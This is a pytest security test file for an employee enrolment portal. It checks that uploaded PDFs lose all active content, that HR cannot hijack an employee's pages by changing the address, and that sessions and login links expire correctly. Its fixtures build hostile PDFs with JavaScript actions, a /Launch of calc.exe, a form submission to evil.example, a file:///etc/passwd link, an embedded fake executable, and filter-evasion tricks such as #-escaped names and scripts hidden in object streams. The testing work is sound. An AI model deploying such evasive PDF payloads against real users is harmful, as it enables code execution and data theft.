"""Issue 15 for the employee's pages: uploaded PDFs lose every kind of active content
(item 2), HR cannot take over the employee's pages by changing the address (item 10), and
the employee's session has an idle timeout while a public "new link" request cancels
nothing (item 12). Every PDF here is built in the test, with pypdf or by hand."""

from __future__ import annotations

import datetime as dt
import io
import zlib
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.enrollment.conftest import valid_raw

TEXT = "Sanne de Vries curriculum vitae"
MARKERS = (b"JavaScript", b"/JS", b"/AA", b"/OpenAction", b"/Launch", b"/SubmitForm", b"/EmbeddedFile",
           b"/EF", b"/FileAttachment", b"file:", b"evil", b"#61", b"#53", b"#41", b"app.alert")


# --- PDFs ---------------------------------------------------------------------------------

def _content() -> bytes:
    return b"BT /F1 14 Tf 72 720 Td (" + TEXT.encode() + b") Tj ET"


def _page_objects(page_extra: bytes = b"") -> dict[int, bytes]:
    content = _content()
    return {1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
               b" /Contents 5 0 R" + page_extra + b" >>",
            4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            5: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"}


def raw_pdf(objects: dict[int, bytes], orphan: bytes = b"") -> bytes:
    """A PDF written byte by byte with a correct xref table (names exactly as given)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    out.write(orphan)  # bytes no table points at (a viewer repairing the file may still find them)
    xref = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
    return out.getvalue()


def clean_pdf() -> bytes:
    return raw_pdf(_page_objects())


def hex_escaped_pdf() -> bytes:
    """/AA, /JavaScript and /JS written as /A#41, /J#61vaScript and /J#53."""
    return raw_pdf(_page_objects(b" /A#41 << /O << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"))


def object_stream_pdf() -> bytes:
    """The page's /AA points at a JavaScript action stored in a compressed object stream,
    listed by a compressed cross-reference stream: nothing of it is readable in the bytes."""
    objects = _page_objects(b" /A#41 << /O 6 0 R >>")
    header = b"6 0 "
    packed = zlib.compress(header + b"<< /S /JavaScript /JS (app.alert(1)) >>")
    objects[7] = (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                  % (len(header), len(packed)) + packed + b"\nendstream")
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    xref = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, 9):
        if number == 6:
            rows.append(b"\x02" + (7).to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x01" + offsets.get(number, xref).to_bytes(4, "big") + b"\x00\x00")
    table = zlib.compress(b"".join(rows))
    out.write(b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
              % len(table) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _written(change) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(clean_pdf())))
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + key): value for key, value in entries.items()})


def _annotate(writer: PdfWriter, subtype: str = "/Link", **entries) -> None:
    annotation = _dict(Type=NameObject("/Annot"), Subtype=NameObject(subtype),
                       Rect=ArrayObject([NumberObject(72), NumberObject(700), NumberObject(300), NumberObject(730)]),
                       **entries)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _link(action: DictionaryObject):
    return lambda writer: _annotate(writer, A=writer._add_object(action))


def _script() -> DictionaryObject:
    return _dict(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))


def _document_script(writer: PdfWriter) -> None:
    from pypdf.actions import JavaScript  # pypdf 7's add_open_action: the old add_js

    writer.add_open_action(JavaScript("app.alert(1);"))


def _page_script(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = _dict(O=writer._add_object(_script()))


def _open_action(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_script())


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("evil.exe", b"MZ\x90\x00 evil")


def _attachment_annotation(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"MZ\x90\x00 evil")
    spec = _dict(Type=NameObject("/Filespec"), F=TextStringObject("evil.exe"), EF=_dict(F=writer._add_object(stream)))
    _annotate(writer, "/FileAttachment", FS=writer._add_object(spec))


ACTIVE_PDFS = {
    "document JavaScript (add_open_action)": lambda: _written(_document_script),
    "JavaScript on a page (/AA)": lambda: _written(_page_script),
    "JavaScript behind a link annotation": lambda: _written(_link(_script())),
    "/OpenAction JavaScript": lambda: _written(_open_action),
    "/Launch action": lambda: _written(_link(_dict(S=NameObject("/Launch"), F=TextStringObject("calc.exe")))),
    "/SubmitForm action": lambda: _written(_link(_dict(S=NameObject("/SubmitForm"),
                                                       F=TextStringObject("https://evil.example/collect")))),
    "file:// URI": lambda: _written(_link(_dict(S=NameObject("/URI"), URI=TextStringObject("file:///etc/passwd")))),
    "javascript: URI": lambda: _written(_link(_dict(S=NameObject("/URI"), URI=TextStringObject("javascript:alert(1)")))),
    "embedded file (add_attachment)": lambda: _written(_attachment),
    "evil.exe as FileAttachment annotation": lambda: _written(_attachment_annotation),
    "names with #-escapes written raw": hex_escaped_pdf,
    "JavaScript in a compressed object stream": object_stream_pdf,
}


def _upload(client, data: bytes, kind: str = "cv"):
    return client.post("/ambassador/documents", data={"kind": kind, "file": (io.BytesIO(data), "cv.pdf")},
                       content_type="multipart/form-data")


def _stored_files(app) -> list[Path]:
    root = Path(app.config["UPLOAD_DIR"]) / "enrollment"
    return sorted(root.iterdir()) if root.exists() else []


def _active(data: bytes) -> list[str]:
    """Active content as a PDF library sees it: every object, names decoded."""
    found = []
    reader = PdfReader(io.BytesIO(data))
    seen = set()
    stack = [reader.trailer]
    for numbers in reader.xref.values():
        stack += [reader.get_object(number) for number in numbers]
    while stack:
        item = stack.pop()
        if hasattr(item, "get_object"):
            ref = getattr(item, "idnum", None)
            if ref is not None:
                if ref in seen:
                    continue
                seen.add(ref)
            item = item.get_object()
        if isinstance(item, dict):
            found += [k for k in item if k in ("/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF")]
            if item.get("/S") in ("/JavaScript", "/Launch", "/SubmitForm") or item.get("/Subtype") == "/FileAttachment":
                found.append(str(item.get("/S") or item.get("/Subtype")))
            if item.get("/S") == "/URI" and not str(item.get("/URI")).startswith(("http://", "https://", "mailto:")):
                found.append("URI " + str(item.get("/URI")))
            stack += list(item.values())
        elif isinstance(item, list):
            stack += list(item)
    return found


@pytest.fixture
def enrolment(hr, enrol):
    return enrol(hr, employee_email="sanne@acme.nl")


# --- item 2: PDFs ---------------------------------------------------------------------------

def test_the_test_pdfs_really_are_what_they_claim():
    assert PdfReader(io.BytesIO(clean_pdf())).pages[0].extract_text() == TEXT
    for name, build in ACTIVE_PDFS.items():
        data = build()
        assert PdfReader(io.BytesIO(data)).pages[0].extract_text() == TEXT, name
        assert _active(data), name


@pytest.mark.parametrize("name", list(ACTIVE_PDFS))
def test_a_pdf_with_any_kind_of_active_content_is_refused_and_nothing_is_stored(app, enrolment, ambassador_client, name):
    client = ambassador_client(enrolment)
    response = _upload(client, ACTIVE_PDFS[name]())
    assert response.status_code == 422
    assert "scripts, actions or attached files" in response.get_data(as_text=True)
    from portal.enrollment.models import Document

    assert Document.select().count() == 0 and _stored_files(app) == []


@pytest.mark.parametrize("name", list(ACTIVE_PDFS))
def test_the_rewritten_copy_has_none_of_it_and_keeps_the_text(name):
    from portal.enrollment import documents

    copy = documents.rewrite(ACTIVE_PDFS[name]())
    assert _active(copy) == []
    assert not [marker for marker in MARKERS if marker in copy]
    reader = PdfReader(io.BytesIO(copy))
    assert len(reader.pages) == 1 and reader.pages[0].extract_text() == TEXT


def test_what_is_stored_and_downloaded_is_a_clean_copy_with_the_same_text(app, enrolment, ambassador_client, leader_client):
    """A harmless web link stays; a script in an object no table lists (which pypdf never
    sees but a viewer repairing the file might) does not reach the leader."""
    orphan = b"9 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n"
    link = _dict(S=NameObject("/URI"), URI=TextStringObject("https://www.linkedin.com/in/sanne"))
    uploaded = raw_pdf(_page_objects(), orphan=orphan)
    client = ambassador_client(enrolment)
    assert _upload(client, uploaded).status_code == 302
    with_link = _written(_link(link))
    assert _upload(client, with_link, kind="motivation").status_code == 302
    assert len(_stored_files(app)) == 2
    from portal.enrollment.models import Document

    cv = Document.get(Document.kind == "cv")
    for document, download in ((cv, leader_client.get(f"/leader/ambassadors/{enrolment.id}/documents/cv")),
                               (Document.get(Document.kind == "motivation"), client.get("/ambassador/documents/motivation"))):
        stored = (Path(app.config["UPLOAD_DIR"]) / "enrollment" / document.stored_name).read_bytes()
        assert download.status_code == 200 and download.data == stored
        assert document.size_bytes == len(stored)
        assert not [marker for marker in MARKERS if marker in stored] and _active(stored) == []
        assert PdfReader(io.BytesIO(stored)).pages[0].extract_text() == TEXT
    assert b"9 0 obj" in uploaded and b"J#61vaScript" not in (Path(app.config["UPLOAD_DIR"]) / "enrollment" / cv.stored_name).read_bytes()
    motivation = PdfReader(io.BytesIO(client.get("/ambassador/documents/motivation").data))
    (annotation,) = [a.get_object() for a in motivation.pages[0]["/Annots"]]
    assert annotation["/A"]["/URI"] == "https://www.linkedin.com/in/sanne"


# --- item 10: HR and the employee's pages ---------------------------------------------------------

def _hr_edit(hr, enrolment, email):
    return hr.client.post(f"/ambassadors/{enrolment.id}/edit", data=valid_raw(employee_email=email))


def test_hr_cannot_send_the_employee_s_pages_with_cv_and_iban_to_itself(app, hr, enrolment, ambassador_client, outbox):
    employee = ambassador_client(enrolment)
    assert _upload(employee, clean_pdf()).status_code == 302
    assert employee.post("/ambassador/iban", data={"iban": "NL91 ABNA 0417 1643 00"}).status_code == 302
    hr_address = hr.admin.email
    response = _hr_edit(hr, enrolment, hr_address)
    assert response.status_code == 422
    assert "cannot change" in response.get_data(as_text=True)
    from portal.enrollment.models import Enrolment

    assert Enrolment.get_by_id(enrolment.id).employee_email == "sanne@acme.nl"
    # Resending goes to the employee's address, never to HR's; HR never gets a link at all.
    assert hr.client.post(f"/ambassadors/{enrolment.id}/link").status_code == 302
    assert not [m for m in outbox.to(hr_address) if "/ambassador/start/" in m.text]
    # The employee's session is untouched, and HR cannot open the CV anywhere.
    assert employee.get("/ambassador/documents/cv").status_code == 200
    assert hr.client.get("/ambassador/documents/cv").status_code == 404
    assert hr.client.get(f"/leader/ambassadors/{enrolment.id}/documents/cv").status_code == 404
    assert b"NL91" not in hr.client.get(f"/ambassadors/{enrolment.id}").data


def test_hr_cannot_take_over_after_the_iban_alone(app, hr, enrolment, ambassador_client, outbox):
    employee = ambassador_client(enrolment)
    assert employee.post("/ambassador/iban", data={"iban": "NL91 ABNA 0417 1643 00"}).status_code == 302
    assert _hr_edit(hr, enrolment, "hr@acme.nl").status_code == 422
    assert not outbox.to("hr@acme.nl")


def test_a_changed_address_ends_the_employee_s_sessions_and_links(app, hr, enrolment, ambassador_client, outbox):
    old_link = outbox.last("sanne@acme.nl").link()
    assert hr.client.post(f"/ambassadors/{enrolment.id}/link").status_code == 302
    employee = ambassador_client(enrolment)  # uses the newest link; nothing uploaded yet
    assert employee.get("/ambassador").status_code == 200
    assert hr.client.post(f"/ambassadors/{enrolment.id}/link").status_code == 302
    unused = outbox.last("sanne@acme.nl").link()
    assert _hr_edit(hr, enrolment, "sanne.devries@acme.nl").status_code == 302
    assert employee.get("/ambassador").status_code == 302  # the old address's session is over
    for path in (old_link, unused):
        assert "/ambassador/link" in app.test_client().post(path).headers["Location"]
    # The new address gets a link of its own, and its pages hold nothing of anyone else's.
    new_link = outbox.last("sanne.devries@acme.nl").link()
    browser = app.test_client()
    assert browser.post(new_link).headers["Location"].endswith("/ambassador")
    assert browser.get("/ambassador/documents/cv").status_code == 404


# --- item 12: the employee's session and links ---------------------------------------------------

@pytest.fixture
def clock_at(monkeypatch):
    """Move the enrolment service's clock: clock_at(minutes=...) after the real now."""
    from portal.core.db import utcnow
    from portal.enrollment import access

    start = utcnow()

    def move(**delta):
        monkeypatch.setattr(access, "utcnow", lambda: start + dt.timedelta(**delta))

    return move


def test_each_request_starts_the_idle_time_again(app, enrolment, ambassador_client, clock_at):
    idle = int(app.config["SESSION_IDLE_MINUTES"])
    assert idle < 8 * 60
    client = ambassador_client(enrolment)
    clock_at(minutes=idle - 5)
    assert client.get("/ambassador").status_code == 200  # active: the idle time starts again
    clock_at(minutes=2 * idle - 10)
    assert client.get("/ambassador").status_code == 200
    clock_at(minutes=3 * idle)
    response = client.get("/ambassador")
    assert response.status_code == 302 and "/ambassador/link" in response.headers["Location"]


def test_an_idle_employee_session_ends(app, hr, enrolment, ambassador_client, clock_at):
    idle = int(app.config["SESSION_IDLE_MINUTES"])
    client = ambassador_client(enrolment)
    clock_at(minutes=idle + 2)
    assert client.get("/ambassador").status_code == 302
    assert client.get("/ambassador/documents/cv").status_code == 404


def test_an_active_employee_session_still_ends_eight_hours_after_the_link(app, enrolment, ambassador_client, clock_at):
    idle = int(app.config["SESSION_IDLE_MINUTES"])
    client = ambassador_client(enrolment)
    minutes = 0
    while minutes + idle // 2 < 8 * 60:
        minutes += idle // 2
        clock_at(minutes=minutes)
        assert client.get("/ambassador").status_code == 200
    clock_at(minutes=8 * 60 + 1)
    assert client.get("/ambassador").status_code == 302


def test_asking_for_a_new_link_does_not_cancel_the_one_in_the_mailbox(app, enrolment, outbox):
    mailed = outbox.last("sanne@acme.nl").link()
    stranger = app.test_client()
    for _ in range(5):
        assert stranger.post("/ambassador/link", data={"email": "sanne@acme.nl"}).status_code == 302
    # At most three links an hour leave for one enrolment (the invitation counts), and none
    # cancels another.
    assert len(outbox.to("sanne@acme.nl")) == 3
    browser = app.test_client()
    assert browser.get(mailed).status_code == 200
    assert browser.post(mailed).headers["Location"].endswith("/ambassador")
    # Using one link ends the others.
    for message in outbox.to("sanne@acme.nl")[1:]:
        assert "/ambassador/link" in app.test_client().post(message.link()).headers["Location"]


def test_a_stranger_asking_for_a_link_leaves_the_mailed_one_working(app, enrolment, outbox):
    mailed = outbox.last("sanne@acme.nl").link()
    assert app.test_client().post("/ambassador/link", data={"email": "sanne@acme.nl"}).status_code == 302
    assert len(outbox.to("sanne@acme.nl")) == 2
    assert app.test_client().post(mailed).headers["Location"].endswith("/ambassador")


def test_a_request_that_raced_the_address_change_saves_nothing(app, hr, enrolment, ambassador_client):
    from portal.enrollment import documents, service
    from portal.enrollment.base import EnrollmentError
    from portal.enrollment.models import Document, Enrolment

    ambassador_client(enrolment)
    seen_by_the_session = Enrolment.get_by_id(enrolment.id)  # loaded before HR's change landed
    assert _hr_edit(hr, enrolment, "sanne.devries@acme.nl").status_code == 302
    with pytest.raises(EnrollmentError):
        service.set_payout_iban(seen_by_the_session, "NL91 ABNA 0417 1643 00")
    with pytest.raises(EnrollmentError):
        documents.store(seen_by_the_session, "cv", clean_pdf(), "cv.pdf")
    assert Enrolment.get_by_id(enrolment.id).payout_iban == ""
    assert Document.select().count() == 0 and _stored_files(app) == []


def test_a_file_stored_before_the_rewrite_is_cleaned_on_download(app, enrolment, leader_client):
    """Files uploaded under the old check were stored as uploaded: the leader gets a clean copy."""
    from portal.enrollment import documents
    from portal.enrollment.models import Document

    data = hex_escaped_pdf()
    stored_name = "ab" * 16 + ".pdf"
    Path(documents._path(stored_name)).write_bytes(data)
    Document.create(enrolment=enrolment.id, company=enrolment.company_id, kind="cv", stored_name=stored_name,
                    original_name="cv.pdf", size_bytes=len(data), sha256="0" * 64, pages=1)
    response = leader_client.get(f"/leader/ambassadors/{enrolment.id}/documents/cv")
    assert response.status_code == 200 and response.headers["Content-Disposition"].startswith("attachment;")
    assert _active(response.data) == [] and not [m for m in MARKERS if m in response.data]
    assert PdfReader(io.BytesIO(response.data)).pages[0].extract_text() == TEXT
